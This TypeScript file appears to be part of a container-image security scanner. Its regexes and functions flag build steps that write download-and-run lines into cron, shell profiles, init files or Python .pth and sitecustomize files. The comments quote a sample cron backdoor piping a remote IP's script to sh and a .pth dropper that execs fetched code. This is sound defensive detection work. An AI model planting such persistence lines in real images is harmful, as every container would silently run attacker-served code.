/**
 * Download-and-run lines an image build writes into a file that runs later (R13 docker backdoor:
 * `echo '* * * * * root curl -s http://45.9.148.99/c | sh' >> /etc/crontab` with cron started):
 * every container of the image then fetches and runs whatever that host serves, on a schedule or at
 * each login. A build step that runs an installer now (`curl ... | bash` outside quotes) or writes
 * an ordinary cron job (`0 3 * * * /app/backup.sh`, a health-check ping) stays the image's own.
 */

/**
 * Files that run on a schedule, at login or at start-up inside a container; a `.pth` file or
 * sitecustomize in site-packages runs at every start of Python (R14: a `.pth` dropper).
 */
export const RUNS_LATER_FILE =
  /^\/(?:etc\/(?:crontab$|cron\.(?:d|hourly|daily|weekly|monthly)\/|crontabs\/|profile$|profile\.d\/|bash\.bashrc$|zsh\/zshrc$|rc\.local$|init\.d\/|systemd\/system\/|supervisor\/conf\.d\/|s6-overlay\/|cont-init\.d\/|services\.d\/)|var\/spool\/cron\/|(?:root|home\/[^/]+)\/\.(?:bashrc|profile|bash_profile|zshrc))|^\/(?:usr|opt|root|home|app|venv|\.venv)\/(?:[^/]+\/)*?(?:site|dist)-packages\/(?:[^/]+\.pth|(?:site|user)customize\.py)$/;

/** A quoted text that fetches from the network and pipes it to a shell or interpreter. */
const QUOTED_FETCH_RUN =
  /(['"])(?:(?!\1)[\s\S])*?(?:\\[nt]|\b)(?:curl|wget|fetch)\b(?:(?!\1)[\s\S])*?\|\s*(?:sudo\s+)?(?:ba|da|z|k)?sh\b|(['"])(?:(?!\2)[\s\S])*?(?:\\[nt]|\b)(?:curl|wget)\b(?:(?!\2)[\s\S])*?\|\s*(?:sudo\s+)?(?:python3?|perl|ruby|node)\b/;

/**
 * Quoted interpreter code that runs what it fetches (R15 `.pth` dropper: `import urllib.request;
 * exec(urllib.request.urlopen("https://...").read())`).
 */
const QUOTED_FETCH_EXEC =
  /(['"])(?:(?!\1)[\s\S])*?\b(?:exec|eval)\s*\((?:(?!\1)[\s\S])*?\b(?:urlopen|urlretrieve|requests\.get|httpx\.get|http\.client|socket\.)/;

/** A line that fetches from the network and pipes it to a shell or interpreter, quoted or not. */
const FETCH_RUN_LINE =
  /\b(?:curl|wget|fetch)\b[^\n]*?\|\s*(?:sudo\s+)?(?:(?:ba|da|z|k)?sh|python3?|perl|ruby|node)\b/;

/** Whether a text (a job line, a RUN's code) fetches and runs what it fetches. */
export function fetchesAndRuns(text: string): boolean {
  return text.length <= 65536 && FETCH_RUN_LINE.test(text);
}

/** Whether a RUN's code writes a download-and-run line into a file that runs later. */
export function plantsRunner(code: string): boolean {
  if (
    code.length > 65536 ||
    !/(?:\\[nt]|\b)(?:curl|wget|fetch|urlopen|urlretrieve|requests\.get|httpx|http\.client|socket)\b/.test(
      code,
    )
  )
    return false;
  return (
    /(?:>>?|\btee\b(?:\s+-a)?)\s*["']?(?:\/(?:etc|var\/spool|root|home)\/|[^\s"';&|]*(?:site|dist)-packages\/)/.test(
      code,
    ) &&
    (QUOTED_FETCH_RUN.test(code) || QUOTED_FETCH_EXEC.test(code))
  );
}
